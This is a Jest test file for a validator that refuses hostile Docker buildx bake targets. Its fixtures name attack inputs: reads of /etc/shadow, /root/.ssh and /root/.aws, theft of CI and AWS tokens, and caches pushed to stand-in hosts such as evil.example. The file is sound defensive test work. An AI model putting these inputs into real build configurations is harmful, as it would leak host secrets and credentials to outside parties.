import { describe, expect, it } from '@jest/globals'
import { parseBakeDefinition } from '../../../src/core/bake/definition.ts'
import { refuseTarget } from '../../../src/core/bake/refuse-target.ts'
import type { JsonObject } from '../../../src/core/json.ts'

const limits = {
  workspace: '/w',
  allow: ['device'],
  sshIds: ['default'],
  grantedVariables: ['GITHUB_TOKEN'],
  accountIds: ['123456789012'],
}
const refusals = (members: JsonObject) =>
  refuseTarget({ name: 'web', members, wanted: true }, limits)

describe('a target of a hostile bake file', () => {
  it.each<[string, JsonObject, RegExp]>([
    ['writes a folder', { output: ['type=local,dest=/etc'] }, /output "type=local,dest=\/etc"/],
    ['writes a folder in the short form', { output: ['out'] }, /output "out"/],
    ['writes a tar', { output: [{ type: 'tar', dest: 'x' }] }, /output "type=tar,dest=x"/],
    ['writes an archive', { output: ['type=oci,dest=x.tar'] }, /output/],
    ['loads into the engine', { output: ['type=docker,dest=x.tar'] }, /output/],
    ['hides its output among others', { output: ['type=image', 'type=local,dest=.'] }, /local/],
    ['names the type twice', { output: ['type=image,type=local,dest=.'] }, /local/],
    ['reads above the workspace', { context: '../other' }, /context "\.\.\/other"/],
    ['reads anywhere', { context: '/etc' }, /context/],
    ['climbs out', { context: 'a/../../b' }, /context/],
    ['reads a layout elsewhere', { context: 'oci-layout:///var/lib/x' }, /context/],
    ['hides behind cwd', { context: 'cwd:///etc' }, /context/],
    ['has its Dockerfile elsewhere', { dockerfile: '../../x' }, /dockerfile/],
    ['has its Dockerfile at the root', { dockerfile: '/etc/passwd' }, /dockerfile/],
    ['reads by a named context', { contexts: { c: '/root/.aws' } }, /context "c"/],
    ['reads by a layout', { contexts: { c: 'oci-layout:///var/lib/x:tag' } }, /context "c"/],
    ['takes a file for a secret', { secret: ['id=k,src=/root/.ssh/id'] }, /secret .* outside/],
    ['takes it as an object', { secret: [{ id: 'k', src: '../key' }] }, /secret/],
    ['takes it by its long name', { secret: ['type=file,id=k,source=/etc/shadow'] }, /secret/],
    ['takes it by its id alone', { secret: ['id=/root/.docker/config.json'] }, /secret .* outside/],
    ['hides it behind another', { secret: ['id=k,src=keys/a,source=/etc/shadow'] }, /secret/],
    ['takes a token for buildx', { secret: ['id=t,env=ACTIONS_RUNTIME_TOKEN'] }, /secret-envs/],
    ['takes keys for the cache', { secret: ['id=AWS_SECRET_ACCESS_KEY'] }, /secret-envs/],
    ['takes them by the type', { secret: ['type=env,id=k,src=AWS_SESSION_TOKEN'] }, /secret-envs/],
    ['uses the agent', { ssh: ['other'] }, /ssh "other" is not granted/],
    ['uses a key', { ssh: ['k=/root/.ssh/id'] }, /ssh "k"/],
    ['has an entitlement', { entitlements: ['security.insecure'] }, /security\.insecure/],
    ['is on the network of the host', { network: 'host' }, /"network\.host" is not allowed/],
    [
      'says so as later buildx prints it',
      { network: 'host', entitlements: ['network.host'] },
      /"network\.host" is not allowed/,
    ],
    ['brings a policy', { policy: [{ files: ['p.rego'] }] }, /"policy" decides/],
    ['switches the policy off', { policy: [{ disabled: true }] }, /"policy" decides/],
    ['pushes a cache elsewhere', { 'cache-to': ['type=registry,ref=evil.example/x'] }, /cache-to/],
    ['pushes a cache in the short form', { 'cache-to': ['evil.example/x:y'] }, /cache-to/],
    [
      'pushes a cache to another account',
      { 'cache-to': ['type=registry,ref=999999999999.dkr.ecr.eu-west-1.amazonaws.com/cache:t'] },
      /cache-to/,
    ],
    ['gets the runtime token', { 'cache-to': ['type=gha,url=https://evil'] }, /cache-to/],
    ['gets it for reading', { 'cache-from': ['type=gha,url=https://evil'] }, /cache-from/],
    ['gets AWS credentials', { 'cache-from': ['type=s3,endpoint_url=http://evil'] }, /cache-from/],
    ['writes a cache here', { 'cache-to': ['type=local,dest=/x'] }, /cache-to/],
    ['reads a cache here', { 'cache-from': ['type=local,src=/x'] }, /cache-from/],
    ['builds nothing', { call: 'check' }, /call "check"/],
    ['has what nobody knows', { exec: 'rm' }, /member "exec" is not known/],
  ])('is refused where it %s', (_what, members, expected) => {
    const found = refusals(members)
    expect(found).toHaveLength(1)
    expect(found[0]).toMatch(expected)
  })

  it.each<[string, JsonObject]>([
    ['pushes', { output: ['type=registry'], tags: ['x'] }],
    ['stays in the cache', { output: ['type=cacheonly'] }],
    ['is in the workspace', { context: '/w/web', dockerfile: '../docker/web.Dockerfile' }],
    ['fetches its context', { context: 'https://github.com/o/r.git#main' }],
    [
      'builds on others',
      { contexts: { a: 'target:base', b: 'docker-image://alpine', c: './src' } },
    ],
    ['has its Dockerfile in itself', { 'dockerfile-inline': 'FROM scratch' }],
    ['has secrets of the workspace', { secret: ['id=a,src=keys/a', 'type=env,id=b,env=B'] }],
    ['takes a variable that is granted', { secret: ['id=GITHUB_TOKEN'] }],
    ['uses what is granted', { ssh: ['default'], entitlements: ['device'] }],
    ['has a network of its own, or none', { network: 'none' }],
    ['limits its steps', { resources: { memory: '1g', 'cpu-quota': 50_000 } }],
    [
      'has its cache in ECR',
      { 'cache-to': [`type=registry,ref=123456789012.dkr.ecr.eu-west-1.amazonaws.com/cache:t`] },
    ],
    ['has its cache in itself', { 'cache-to': ['type=inline'], 'cache-from': ['a.example/x'] }],
  ])('is built where it %s', (_what, members) => {
    expect(refusals(members)).toEqual([])
  })
})

it('is on the network of the host where the inputs allow that', () => {
  const members = { network: 'host', entitlements: ['network.host'] }
  const target = { name: 'web', members, wanted: true }
  expect(refuseTarget(target, { ...limits, allow: ['network.host'] })).toEqual([])
})

describe('a printed definition', () => {
  const print = (group: object, target: object) =>
    parseBakeDefinition(JSON.stringify({ group, target }))

  it('wants what the default group holds, of whatever depth, and links the rest', () => {
    const targets = print(
      { default: { targets: ['all'] }, all: { targets: ['web', 'all'] } },
      { web: {}, base: {} },
    )
    expect(targets.map(({ name, wanted }) => [name, wanted])).toEqual([
      ['web', true],
      ['base', false],
    ])
  })

  it.each(['', 'null', '[]', '{}', '{"group":{"default":{"targets":["x"]}},"target":{}}'])(
    'of nothing is no definition: %s',
    (text) => {
      expect(() => parseBakeDefinition(text)).toThrow(
        expect.objectContaining({ code: 'bake-unreadable' }),
      )
    },
  )
})
